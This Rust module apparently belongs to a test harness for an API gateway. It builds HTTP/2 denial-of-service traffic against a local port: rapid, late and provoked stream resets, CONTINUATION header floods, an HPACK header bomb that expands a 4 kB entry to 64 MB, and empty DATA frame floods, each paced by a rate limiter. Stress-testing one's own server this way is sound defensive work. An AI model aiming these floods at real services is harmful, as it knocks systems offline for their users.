//! HTTP/2 as attackers speak it: each attack on one connection, for as long as the gateway listens.

use std::time::{Duration, Instant};

use crate::house::http2::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, Frames, HEADERS, RST_STREAM, WINDOW_UPDATE, frame, literal, request,
    text,
};

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// Streams that are reset in the same breath.
    RapidReset,
    /// Streams that are reset once the gateway works on them.
    LateReset,
    /// Streams that the gateway must reset itself, because the caller breaks the protocol on them.
    ProvokedReset,
    /// A header that goes on and on.
    EndlessHeader,
    /// A small header that unpacks to megabytes.
    HeaderBomb,
    /// Frames of data without data.
    EmptyData,
    /// No attack: requests that wait for their answers, about as many as [`Attack::LateReset`] gets served.
    PaidLoad,
}

impl Attack {
    pub const ALL: [Self; 7] = [
        Self::RapidReset,
        Self::LateReset,
        Self::ProvokedReset,
        Self::EndlessHeader,
        Self::HeaderBomb,
        Self::EmptyData,
        Self::PaidLoad,
    ];

    /// One connection, `most` units at most; how many went out, and whether the gateway closed it.
    pub async fn connection(self, port: u16, key: &str, most: usize, pace: &mut Pace) -> (usize, bool) {
        let mut frames = Frames::connect(port).await;
        let priced = [request("GET", "/v1/priced"), literal("authorization", key)].concat();
        let message = [request("POST", "/v1/messages"), literal("authorization", key)].concat();
        let planted = [&[0x40][..], &text("x-bomb"), &text(&"x".repeat(3_900))].concat();
        match self {
            Self::EndlessHeader => _ = frames.write(&frame(HEADERS, END_STREAM, 1, &request("GET", "/open"))).await,
            Self::EmptyData => _ = frames.write(&frame(HEADERS, END_HEADERS, 1, &message)).await,
            // One line of 4 kB goes into the table; then its number names it, a byte each time: 64 MB a header.
            Self::HeaderBomb => {
                let block = [request("GET", "/open"), planted].concat();
                _ = frames.write(&frame(HEADERS, END_HEADERS | END_STREAM, 1, &block)).await;
            }
            Self::RapidReset | Self::LateReset | Self::ProvokedReset | Self::PaidLoad => {}
        }
        for sent in 0..most {
            if !pace.wait().await {
                return (sent, false);
            }
            let stream = u32::try_from(sent).unwrap() * 2 + 1;
            let written = match self {
                Self::RapidReset => frames.write(&[opened(stream, &priced), reset(stream)].concat()).await,
                Self::PaidLoad => frames.write(&opened(stream, &priced)).await,
                Self::LateReset => {
                    // The one before has been waiting for its answer meanwhile.
                    let before = sent.checked_sub(1).map(|_| reset(stream - 2)).unwrap_or_default();
                    frames.write(&[before, opened(stream, &priced)].concat()).await
                }
                Self::ProvokedReset => {
                    let nothing = frame(WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes());
                    frames.write(&[frame(HEADERS, END_HEADERS, stream, &message), nothing].concat()).await
                }
                Self::EndlessHeader => {
                    frames.write(&frame(CONTINUATION, 0, 1, &literal("x-more", &"x".repeat(16_000)))).await
                }
                Self::HeaderBomb => {
                    let bomb = [request("GET", "/open"), vec![0xbe; 16_000]].concat();
                    frames.write(&frame(HEADERS, END_HEADERS | END_STREAM, stream + 2, &bomb)).await
                }
                Self::EmptyData => frames.write(&frame(DATA, 0, 1, &[]).repeat(EMPTY_FRAMES)).await,
            };
            if !written {
                return (sent, frames.until_closed().await);
            }
        }
        (most, false)
    }

    /// Units in a second, where others' patience is measured; ten thousand streams in a window of four seconds.
    pub fn units_a_second(self) -> u32 {
        match self {
            Self::RapidReset | Self::LateReset | Self::ProvokedReset => 2_500,
            Self::PaidLoad => 850,
            Self::EndlessHeader | Self::HeaderBomb => 500,
            Self::EmptyData => 100,
        }
    }
}

/// Frames in a unit of [`Attack::EmptyData`].
const EMPTY_FRAMES: usize = 1_000;

pub fn opened(stream: u32, block: &[u8]) -> Vec<u8> {
    frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
}

pub fn reset(stream: u32) -> Vec<u8> {
    frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())
}

/// So many in a second, for so long; or as fast as it goes.
pub struct Pace {
    next: Instant,
    between: Duration,
    end: Option<Instant>,
}

impl Pace {
    pub fn unbounded() -> Self {
        Self { next: Instant::now(), between: Duration::ZERO, end: None }
    }

    pub fn a_second(units: u32, length: Duration) -> Self {
        let now = Instant::now();
        Self { next: now, between: Duration::from_secs(1) / units, end: Some(now + length) }
    }

    pub fn is_over(&self) -> bool {
        self.end.is_some_and(|end| Instant::now() >= end)
    }

    /// Whether there is a next one.
    async fn wait(&mut self) -> bool {
        self.next += self.between;
        let rest = self.next.saturating_duration_since(Instant::now());
        // The timer has steps of a millisecond; what is due within one goes out together.
        if rest > Duration::from_millis(1) {
            tokio::time::sleep(rest).await;
        }
        !self.is_over()
    }
}
